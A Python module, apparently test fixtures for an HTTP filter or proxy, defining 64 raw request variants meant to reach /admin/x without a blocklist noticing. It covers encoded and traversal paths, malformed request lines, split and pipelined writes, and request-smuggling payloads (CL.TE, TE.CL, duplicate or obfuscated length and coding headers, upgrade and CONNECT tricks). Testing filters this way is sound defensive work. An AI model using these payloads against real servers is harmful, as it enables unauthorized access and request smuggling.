"""64 ways to ask for ``/admin/x`` so that a list does not notice. Each is what is written, and pauses in seconds."""

from collections.abc import Sequence

Pieces = Sequence[bytes | float]

HOST = b"Host: 10.25.0.2\r\n"
PLAIN = b"GET /admin/x HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"
FINE = b"GET /ok HTTP/1.1\r\n" + HOST


def get(target: bytes, version: bytes = b"HTTP/1.1", head: bytes = HOST, method: bytes = b"GET") -> bytes:
    """One request that closes the connection."""
    return method + b" " + target + b" " + version + b"\r\n" + head + b"Connection: close\r\n\r\n"


def post(head: bytes, body: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    """One allowed request with a body, as framed by its head."""
    return b"POST /ok " + version + b"\r\n" + HOST + head + b"\r\n\r\n" + body


def bytewise(data: bytes) -> Pieces:
    """A byte at a time."""
    return [data[at : at + 1] for at in range(len(data))]


CHUNKED = b"Transfer-Encoding: chunked"
SMUGGLED = b"0\r\n\r\n" + PLAIN
"""Behind the last chunk, or within a body."""

SPELLINGS: dict[str, Pieces] = {
    "plain": [PLAIN],
    "escaped letter": [get(b"/%61dmin/x")],
    "two slashes": [get(b"//admin/x")],
    "dot segment": [get(b"/./admin/x")],
    "dot dot": [get(b"/x/../admin/x")],
    "escaped dots": [get(b"/x/%2e%2e/admin/x")],
    "escaped slashes": [get(b"/x%2f..%2fadmin%2fx")],
    "above the root": [get(b"/../admin/x")],
    "escaped twice": [get(b"/%2561dmin/x")],
    "capitals": [get(b"/ADMIN/x")],
    "backslash": [get(b"/x\\..\\admin\\x")],
    "path parameter": [get(b"/admin;v=1/x")],
    "path parameter alone": [get(b"/;/admin/x")],
    "escaped NUL": [get(b"/admin%00/x")],
    "overlong UTF-8": [get(b"/%c0%afadmin/x")],
    "query and fragment": [get(b"/admin/x?/ok#/ok")],
    "absolute form, another host": [get(b"http://good.example/admin/x")],
    "absolute form, capitals, port, user": [get(b"HTTP://u@10.25.0.2:80/admin/x")],
    "long, of dot segments": [get(b"/." * 1500 + b"/admin/x")],
    "long, then back": [get(b"/" + b"a" * 700 + b"/../admin/x")],
    "deep, then back": [get(b"/a" * 100 + b"/.." * 100 + b"/admin/x")],
}

LINES: dict[str, Pieces] = {
    "method in small letters": [get(b"/admin/x", method=b"get")],
    "unknown method": [get(b"/admin/x", method=b"FOO")],
    "method of 40 letters": [get(b"/admin/x", method=b"A" * 40)],
    "several spaces": [b"GET   /admin/x   HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"],
    "tab for space": [b"GET\t/admin/x\tHTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"],
    "space within the target": [b"GET /ok /admin/x HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"],
    "empty lines in front": [b"\r\n\r\n\n" + PLAIN],
    "bare LF": [PLAIN.replace(b"\r\n", b"\n")],
    "bare CR": [PLAIN.replace(b"\r\n", b"\r")],
    "HTTP/0.9": [b"GET /admin/x\r\n"],
    "HTTP/1.0 without Host": [b"GET /admin/x HTTP/1.0\r\n\r\n"],
    "HTTP/1.2": [get(b"/admin/x", version=b"HTTP/1.2")],
    "HTTP/2.0 in the line": [get(b"/admin/x", version=b"HTTP/2.0")],
    "7 KiB of headers before Host": [get(b"/admin/x", head=b"Cookie: " + b"c" * 7000 + b"\r\n" + HOST)],
    "20 KiB of headers": [get(b"/admin/x", head=b"".join(b"X-%d: " % n + b"c" * 1000 + b"\r\n" for n in range(20)) + HOST)],
    "NUL in a header's name": [get(b"/admin/x", head=b"X\0: y\r\n" + HOST)],
    "headers that say another URL": [get(b"/ok", head=HOST + b"X-Original-URL: /admin/x\r\nX-Rewrite-URL: /admin/x\r\n")],
    "line without a colon": [b"GET /ok HTTP/1.1\r\nno colon\r\nContent-Length: %d\r\n" % len(PLAIN) + HOST + b"\r\n" + PLAIN],
}

CUTS: dict[str, Pieces] = {
    "byte by byte": bytewise(PLAIN),
    "in two, within the path": [PLAIN[:8], 0.15, PLAIN[8:]],
    "in two, within the last CRLF": [PLAIN[:-1], 0.15, PLAIN[-1:]],
    "pipelined in one write": [FINE + b"\r\n" + PLAIN],
    "pipelined, cut": [FINE + b"\r\n" + PLAIN[:7], 0.1, PLAIN[7:]],
    "keep-alive": [FINE + b"\r\n", 0.15, PLAIN],
    "behind a body, one write": [post(b"Content-Length: 5", b"hello" + PLAIN)],
    "behind a body, cut in it": [post(b"Content-Length: 5", b"he"), 0.1, b"llo" + PLAIN],
    "behind a chunked body": [post(CHUNKED, b"5;x=y\r\nhello\r\n0\r\nT: r\r\n\r\n" + PLAIN)],
    "behind a chunked body, byte by byte": bytewise(post(CHUNKED, b"5\r\nhello\r\n0\r\n\r\n" + PLAIN)),
    "Expect: 100-continue": [
        b"POST /admin/x HTTP/1.1\r\n" + HOST + b"Expect: 100-continue\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"
    ],
}

SMUGGLING: dict[str, Pieces] = {
    "CL.TE": [post(b"Content-Length: %d\r\n" % len(SMUGGLED) + CHUNKED, SMUGGLED)],
    "TE.CL": [post(b"Content-Length: 4\r\n" + CHUNKED, b"%x\r\n" % len(PLAIN) + PLAIN + b"\r\n0\r\n\r\n")],
    "two lengths": [post(b"Content-Length: 0\r\nContent-Length: %d" % len(PLAIN), PLAIN)],
    "two lengths, the other way round": [post(b"Content-Length: %d\r\nContent-Length: 0" % len(PLAIN), PLAIN)],
    "space before the colon of a length": [post(b"Content-Length : %d" % len(PLAIN), PLAIN)],
    "length with a sign": [post(b"Content-Length: +%d" % len(PLAIN), PLAIN)],
    "space before the colon of a coding": [post(b"Content-Length: %d\r\nTransfer-Encoding : chunked" % len(SMUGGLED), SMUGGLED)],
    "another coding": [post(b"Content-Length: %d\r\nTransfer-Encoding: xchunked" % len(SMUGGLED), SMUGGLED)],
    "vertical tab": [post(b"Content-Length: %d\r\nTransfer-Encoding: \x0bchunked" % len(SMUGGLED), SMUGGLED)],
    "folded coding": [post(b"Content-Length: %d\r\nTransfer-Encoding:\r\n chunked" % len(SMUGGLED), SMUGGLED)],
    "size of a chunk with a sign": [post(CHUNKED, b"+0\r\n\r\n" + PLAIN)],
    "chunked in HTTP/1.0": [
        post(b"Connection: keep-alive\r\nContent-Length: %d\r\n" % len(SMUGGLED) + CHUNKED, SMUGGLED, b"HTTP/1.0")
    ],
    "Upgrade: h2c, then a request": [
        FINE + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n",
        0.1,
        PLAIN,
    ],
    "Upgrade: websocket, then a request": [
        FINE + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
        b"Sec-WebSocket-Version: 13\r\n\r\n",
        0.1,
        PLAIN,
    ],
    "CONNECT, then a request": [b"CONNECT a:1 HTTP/1.1\r\n" + HOST + b"\r\n", 0.1, PLAIN],
}

BYPASSES = {**SPELLINGS, **LINES, **CUTS, **SMUGGLING}
